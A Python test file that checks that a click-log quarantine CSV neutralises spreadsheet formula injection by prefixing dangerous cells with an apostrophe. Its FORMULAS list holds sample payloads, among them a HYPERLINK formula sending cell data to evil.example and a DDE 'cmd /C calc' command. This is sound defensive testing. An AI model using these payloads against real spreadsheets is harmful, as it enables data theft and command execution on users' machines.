"""A quarantine that a person opens in a spreadsheet."""

import csv
import re

import polars as pl
import pytest

from ssi_core.guests.click_logs.quarantine import as_text
from ssi_core.guests.click_logs.rules import Rules
from tests.guests.click_logs import logs

FORMULAS = [
    '=HYPERLINK("http://evil.example/"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1",
    "'quoted",
]
HARMLESS = ["a=1", "", "it's", "1-2", "日本", '"=1"']


def test_no_cell_begins_a_formula_and_all_come_back():
    written = as_text(pl.DataFrame({"line": range(15), "row": FORMULAS + HARMLESS}))
    assert written["line"].to_list() == list(range(15))
    assert written["row"].to_list() == [*(f"'{text}" for text in FORMULAS), *HARMLESS]
    back = written["row"].str.strip_prefix("'").to_list()
    assert back == FORMULAS + HARMLESS


def test_a_formula_after_a_semicolon_is_text_too():
    """Where a decimal has a comma, the semicolon ends a cell, quotes or not."""
    texts = ["a;=1+1", ";@x;+y", "=1;=2", "a;'b", "it's;1-2;", "; =1", "a;\uff1d1", "a;;-1"]
    written = as_text(pl.DataFrame({"row": texts}))["row"].to_list()
    for line in written:
        assert all(cell[:1] not in set("=+-@\t\r\n\uff1d") - {""} for cell in line.split(";"))
    assert written[:4] == ["a;'=1+1", ";'@x;'+y", "'=1;'=2", "a;''b"]
    assert [re.sub("(^|;)'", r"\1", line) for line in written] == texts


@pytest.mark.parametrize("formula", [text for text in FORMULAS if "\n" not in text])
def test_a_log_with_a_formula_gives_a_quarantine_without_one(formula, tmp_path):
    rows = logs.rows(30)
    rows[3] = {**rows[3], "visit": formula, "rank": formula}
    log = logs.write_csv(tmp_path / "=log.csv", rows)
    made = logs.ingest([log], logs.form(), tmp_path / "out", rules=Rules("all"))
    with (made.path / "quarantine.csv").open(encoding="utf-8", newline="") as file:
        head, row = csv.reader(file)
    assert head == ["file", "line", "category", "reason", "row"]
    assert row[0] == "'=log.csv"
    assert all(cell[0] not in "=+-@\t\r\uff1d" for cell in row)
    assert row[4].removeprefix("'").encode() in log.read_bytes()
